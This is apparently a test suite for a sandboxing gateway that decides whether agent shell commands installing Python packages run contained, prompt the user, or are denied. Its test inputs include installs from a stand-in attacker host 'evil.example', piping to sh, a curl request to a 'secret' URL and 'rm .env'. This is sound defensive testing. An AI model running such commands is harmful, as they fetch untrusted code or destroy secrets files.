"""Calls that install what can be fetched before they run: what is read off their words and files, and what is not."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.model.call import RawCall
from gateway.model.plan import Endpoint
from gateway.policy.confine import grants_of
from gateway.policy.fetching import FETCHERS, Fetch, OtherwiseError, Project, fetch_of, pip
from gateway.policy.fetching.pip import Listed, listed, needed_by
from gateway.policy.hostrules import Only, Refused
from gateway.policy.installs import INSTALLERS
from gateway.sandbox.network import OFF, fetching_of
from gateway.sandbox.profile import Profile
from gateway.spec.sandbox import REGISTRIES

HELD = {
    "id": "held",
    "allow": {"effect": ["code", "opaque", "write", "delete", "connect", "system", "env", "read"], "contained": True},
}
PIP = {"settings": {"sandbox": {"registries": ["npm", "pip"]}}, "rules": [HELD]}
ROOT = "/home/dev/project"
PROGRAM = ".venv/bin/pip"


@pytest.fixture
def judged(guard, monkeypatch):
    """The verdict on a text under a policy, where all lists say what can be fetched."""
    monkeypatch.setattr("gateway.judge.lists.why_not", lambda *_given: "")

    def judge(text: str, policy=PIP, **more):
        return guard({"user": policy}, **more).check(RawCall("Bash", {"command": text}), contains=lambda *_: "")

    return judge


def test_policy_can_name_each_of_them() -> None:
    assert {*INSTALLERS, *FETCHERS} == set(REGISTRIES)


@pytest.mark.parametrize(
    ("text", "named", "files", "projects"),
    [
        (".venv/bin/pip install six", ("six",), (), ()),
        (".venv/bin/pip install -q -U 'six>=1.16,<2' 'x[socks]==2.31.0'", ("six>=1.16,<2", "x[socks]==2.31.0"), (), ()),
        (".venv/bin/pip install \"x; python_version < '3.9'\"", ("x; python_version < '3.9'",), (), ()),
        (".venv/bin/python -m pip install -r requirements.txt", (), (f"{ROOT}/requirements.txt",), ()),
        (".venv/bin/pip install --requirement=req/dev.txt six", ("six",), (f"{ROOT}/req/dev.txt",), ()),
        ("cd src && ../.venv/bin/pip install -r r.txt", (), (f"{ROOT}/src/r.txt",), ()),
        ("pip install -t lib six", ("six",), (), ()),
        (
            (".venv/bin/pip install --quiet -qq -v --verbose --upgrade --no-input --no-cache-dir --no-color --no-clean"
            " --disable-pip-version-check --force-reinstall --no-compile --no-warn-script-location --require-virtualenv"
            " --ignore-installed -I --prefer-binary --only-binary=:all: --progress-bar off --timeout 3 six"),
            ("six",), (), (),
        ),
        ("uv pip install six", ("six",), (), ()),
        ("uv pip install -r requirements.txt", (), (f"{ROOT}/requirements.txt",), ()),
        (".venv/bin/pip install -e .", (), (), (Project(f"{ROOT}/.", (), linked=True),)),
        (".venv/bin/pip install -e '.[d,t]' six", ("six",), (), (Project(f"{ROOT}/.", ("d", "t"), linked=True),)),
        (".venv/bin/pip install ./src", (), (), (Project(f"{ROOT}/./src"),)),
        # What stands beside it has no network either.
        ("python3 -m venv .venv && .venv/bin/pip install six && .venv/bin/python x.py", ("six",), (), ()),
        (".venv/bin/pip install six; ./run.sh | sh", ("six",), (), ()),
        ("pip install six && python3 x.py", ("six",), (), ()), ("python3 -m pip install six", ("six",), (), ()),
        ("pip3 install --break-system-packages six", ("six",), (), ()),
        (".venv/bin/pip install a && .venv/bin/pip install b", ("a", "b"), (), ()),
        ("PIP_INDEX_URL=https://evil.example .venv/bin/pip install six", ("six",), (), ()),
    ],
)  # fmt: skip
def test_an_install_is_contained_and_what_it_needs_is_known(judged, text, named, files, projects) -> None:
    verdict = judged(text)
    assert (verdict.decision.word, verdict.contained) == ("allow", True), verdict.reason
    fetch = fetch_of(verdict.analysis, ("pip",))
    assert fetch is not None
    assert fetch == Fetch("pip", named, files=files, projects=projects, targets=fetch.targets)
    grants = grants_of(verdict, {"registries": ["pip"], "hosts": ["wiki.example"]})
    assert (grants.network, grants.contacts, grants.fetched) == ("off", (), "pip")
    assert fetching_of(grants, Profile(), (), ()).allow == (
        Endpoint("pypi.org", 0, "sandbox", "read"),
        Endpoint("files.pythonhosted.org", 0, "sandbox", "read", named_by=("pypi.org",)),
    )
    twin = judged(text, {"rules": [HELD]})
    assert (twin.decision.word, twin.contained) == ("ask", False)


@pytest.mark.parametrize(
    "text",
    [
        # Another source, or what must be run to be had
        ".venv/bin/pip install git+https://evil.example/x", ".venv/bin/pip install https://evil.example/x.whl",
        ".venv/bin/pip install 'x @ https://evil.example/x.whl'", ".venv/bin/pip install ./x.whl@y",
        ".venv/bin/pip install -i https://evil.example/ x", ".venv/bin/pip install --index-url=https://evil.example/ x",
        ".venv/bin/pip install --extra-index-url https://evil.example/ x", ".venv/bin/pip install -f links x",
        ".venv/bin/pip install --no-binary :all: x", ".venv/bin/pip install --trusted-host x x",
        ".venv/bin/pip install --proxy http://evil.example x", ".venv/bin/pip install --cert x x",
        ".venv/bin/pip install -c https://evil.example/c.txt x", ".venv/bin/pip install -c x",
        ".venv/bin/pip install -e git+https://evil.example/x",
        ".venv/bin/pip install -e ../other", ".venv/bin/pip install -e ./../other", ".venv/bin/pip install -e",
        ".venv/bin/pip install --python-version 3.9 x", ".venv/bin/pip install --find-links=/srv x",
        ".venv/bin/pip install -r https://evil.example/r.txt", ".venv/bin/pip install -r",
        ".venv/bin/pip install -r -x",
        ".venv/bin/pip install /srv/x", ".venv/bin/pip install ~/x", ".venv/bin/pip install x/y",
        # Not known before
        ".venv/bin/pip install $X", ".venv/bin/pip install $(cat x)", ".venv/bin/pip install *",
        "cd $X; pip install -t l x",
        ".venv/bin/pip install", "cat x | xargs .venv/bin/pip install",
        # Other installs beside it, or other reads of the registry
        ".venv/bin/pip install six && curl https://pypi.org/secret", ".venv/bin/pip install six && npm install",
        ".venv/bin/pip install six && uv sync", ".venv/bin/pip install six; .venv/bin/pip download x",
        ".venv/bin/pip install six && git push", ".venv/bin/pip install a; .venv/bin/pip install --no-deps b",
        ".venv/bin/pip install six && sudo apt-get install jq", "uv tool install x",
        # The system's own packages, by what has no folder of its own for those of its user
        "pip install --user six", "uv pip install --system six", "pip install --root / six",
    ],
)  # fmt: skip
def test_everything_else_asks(judged, text: str) -> None:
    verdict = judged(text)
    assert (verdict.decision.word, verdict.contained) in (("ask", False), ("deny", False)), verdict.reason


@pytest.mark.parametrize(
    ("text", "mode", "expected"),
    [
        (".venv/bin/pip install six", "", ("ask", "no wheel")),
        (".venv/bin/pip install six; curl https://x.org/", "", ("ask", "")),
        (".venv/bin/pip install six; rm .env", "", ("deny", "")),
        (".venv/bin/pip install six", "dont_ask", ("deny", "")),
        (".venv/bin/pip install six", "plan", ("deny", "")),
    ],
)
def test_where_it_cannot_be_fetched_before_that_is_said_to_who_is_asked(
    guard, monkeypatch, text: str, mode: str, expected: tuple[str, str]
) -> None:
    monkeypatch.setattr("gateway.judge.lists.why_not", lambda *_given: "no wheel")
    verdict = guard({"user": PIP}, mode=mode).check(RawCall("Bash", {"command": text}), contains=lambda *_: "")
    assert (verdict.decision.word, verdict.unfetched, verdict.contained) == (*expected, False)


def test_rules_on_hosts_and_on_installs_hold(judged) -> None:
    for rule in ({"host": "pypi.org"}, {"effect": "system", "action": "install"}, {"effect": "connect"}):
        for lane in ("ask", "deny"):
            policy = {**PIP, "rules": [HELD, {"id": "no", lane: rule}]}
            assert judged(".venv/bin/pip install six", policy).decision.word == lane


def test_a_rule_that_leaves_one_of_the_hosts_out_leaves_no_step(judged) -> None:
    grants = grants_of(judged(".venv/bin/pip install six"), {"registries": ["pip"]})
    assert fetching_of(grants, Profile(), (Refused("*", 0, "r"),), ()) == OFF
    assert fetching_of(grants, Profile(), (), (Only(("pypi.org",), "r"),)) == OFF
    assert fetching_of(grants, Profile(), (Refused("pypi.org", 0, "r"),), ()).deny == (Endpoint("pypi.org", 0, "r"),)
    demand = {**PIP, "rules": [HELD, {"require": {"network": "off"}, "for": {"tool": "Bash"}}]}
    verdict = judged(".venv/bin/pip install six", demand)
    assert verdict.decision.word == "deny" or not grants_of(verdict, {"registries": ["pip"]}).registries


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", Listed((), ())),
        ("six==1.16.0\n\n# note\nidna >= 3 ; python_version >= '3.8'  # why\n",
         Listed(("six==1.16.0", "idna >= 3 ; python_version >= '3.8'"), ())),
        ("six==1.16.0 \\\n    --hash=sha256:ab12 \\\n    --hash=sha256:CD\n",
         Listed(("six==1.16.0 --hash=sha256:ab12 --hash=sha256:CD",), ())),
        ("-r base.txt\n--requirement ../common.txt\nx[a, b]~=1.0\n",
         Listed(("x[a, b]~=1.0",), ("base.txt", "../common.txt"))),
        ("-c limits.txt\nx\n--constraint=more.txt\n", Listed(("x",), (), ("limits.txt", "more.txt"))),
    ],
)  # fmt: skip
def test_files_of_requirements_are_read(text: str, expected: Listed) -> None:
    assert listed(text) == expected


@pytest.mark.parametrize(
    "line",
    [
        "https://evil.example/x.whl", "git+ssh://x/y", "x @ https://evil.example/x", "./x", "-e .",
        "--index-url https://e/",
        "-i https://e/", "--extra-index-url=https://e/", "--find-links x", "--no-binary :all:",
        "-c https://e/c", "$HOME", "x y",
        "x==1 --config-settings=a=b", "x\u00e9", "x;\u202e", "--hash=sha256:ab", "x==1; os_name == `a`", "-r a b",
    ],
)  # fmt: skip
def test_anything_else_in_them_is_told_with_its_line(line: str) -> None:
    with pytest.raises(OtherwiseError, match="line 2 "):
        listed(f"six\n{line}\n")


@given(st.text(alphabet=st.characters(max_codepoint=0x2100), max_size=60))
def test_no_line_that_is_handed_on_is_an_option_an_address_or_a_folder(text: str) -> None:
    try:
        found = listed(text)
    except OtherwiseError:
        return
    for line in found.lines:
        assert line[0].isalnum()
        assert line.isascii()
        assert line.isprintable()
        assert "/" not in line
        assert "@" not in line
        assert ":" not in line.replace("--hash=sha256:", "").partition("--hash=")[0]


PYPROJECT = """
[build-system]
requires = ["hatchling>=1.2"]
build-backend = "hatchling.build"
[project]
name = "My.Proj"
dependencies = ["attrs>=23"]
[project.optional-dependencies]
test = ["iniconfig"]
Dev = ["my_proj[test]", "packaging"]
"""


@pytest.mark.parametrize(
    ("text", "project", "expected"),
    [
        (PYPROJECT, Project("."), ("hatchling>=1.2", "attrs>=23")),
        (PYPROJECT, Project(".", linked=True), ("hatchling>=1.2", "editables~=0.3", "attrs>=23")),
        (PYPROJECT, Project(".", ("dev",)), ("hatchling>=1.2", "attrs>=23", "packaging", "iniconfig")),
        ("[project]\nname = 'x'\n", Project("."), ("setuptools>=40.8.0", "wheel")),
    ],
)
def test_a_projects_own_package_needs_what_it_says(text: str, project: Project, expected: tuple[str, ...]) -> None:
    assert needed_by(text, project) == expected


@pytest.mark.parametrize(
    "text",
    [
        "", "[project]\nname='x'\ndynamic=['dependencies']", "[project]\ndependencies=['x @ https://e/x.whl']",
        "[project]\ndependencies='x'", "[project]\ndependencies=[1]",
        "[build-system]\nrequires=['./x']\n[project]\nname='x'",
        "build-system=1\n[project]\nname='x'", "[project", "[tool.poetry]\nname='x'",
    ],
)  # fmt: skip
def test_one_that_says_it_by_code_or_takes_it_from_elsewhere_is_not_fetched(text: str) -> None:
    with pytest.raises(OtherwiseError):
        needed_by(text, Project("."))


FILES = {
    "r.txt": "six\n-r more.txt\n-c d.txt\n",
    "more.txt": "idna==3.1\nsix\n",
    "c.txt": "six<2\n-c d.txt\n",
    "d.txt": "idna<4\n",
    "hashed.txt": f"six==1.16.0 --hash=sha256:{'0' * 64}\n",
    "loop.txt": "a\n-r loop.txt\n",
    "many.txt": "".join(f"p{number}\n" for number in range(20)),
    "pyproject.toml": "[project]\nname = 'mine'\ndependencies = ['httpx']\n[build-system]\nrequires = ['hatchling']\n"
    "build-backend = 'hatchling.build'\n",
    **{f"chain{number}.txt": f"-r chain{number + 1}.txt\n" for number in range(30)},
}
# Words, files of requirements, of constraints: the requirements and constraints that the step is given.
NEEDS: list[tuple[tuple[str, ...], tuple[str, ...], tuple[str, ...], str, str]] = [
    (("six",), (), (), "six\n", ""),
    (("rich",), ("r.txt",), (), "rich\nsix\nidna==3.1\n", "idna<4\n"),
    ((), ("more.txt",), ("d.txt",), "idna==3.1\nsix\n", "idna<4\n"),
    ((), ("loop.txt",), (), "a\n", ""),
    ((), ("hashed.txt",), (), f"six==1.16.0 --hash=sha256:{'0' * 64}\n", ""),
]


def read(path: str) -> str | None:
    return FILES.get(path.removeprefix("/"))


def needs(named: tuple[str, ...], files: tuple[str, ...], constraints: tuple[str, ...]) -> dict[str, str]:
    lists, limits = (tuple(f"/{each}" for each in given) for given in (files, constraints))
    return FETCHERS["pip"].needs(Fetch("pip", named, files=lists, constraints=limits), read)


@pytest.mark.parametrize(("named", "files", "constraints", "wanted", "limits"), NEEDS)
def test_what_files_of_requirements_name_is_put_together(named, files, constraints, wanted: str, limits: str) -> None:
    expected = {"requirements.txt": wanted, **({"constraints.txt": limits} if limits else {})}
    assert needs(named, files, constraints) == expected


def test_a_project_is_needed_with_what_builds_it() -> None:
    fetch = Fetch("pip", ("six",), projects=(Project(""),))
    assert FETCHERS["pip"].needs(fetch, read) == {"requirements.txt": "six\nhatchling\nhttpx\n"}


@pytest.mark.parametrize(
    ("files", "constraints"),
    [(("missing.txt",), ()), (("chain0.txt",), ()), (("many.txt",), ("d.txt",)), ((), ("c.txt",)),
     ((), ("hashed.txt",)), ((), ("r.txt",))],
)  # fmt: skip
def test_files_that_are_missing_too_many_or_limit_by_more_than_versions_are_not_fetched(
    files: tuple[str, ...], constraints: tuple[str, ...], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pip, "MOST_LINES", 20)
    with pytest.raises(OtherwiseError):
        needs(("six",), files, constraints)
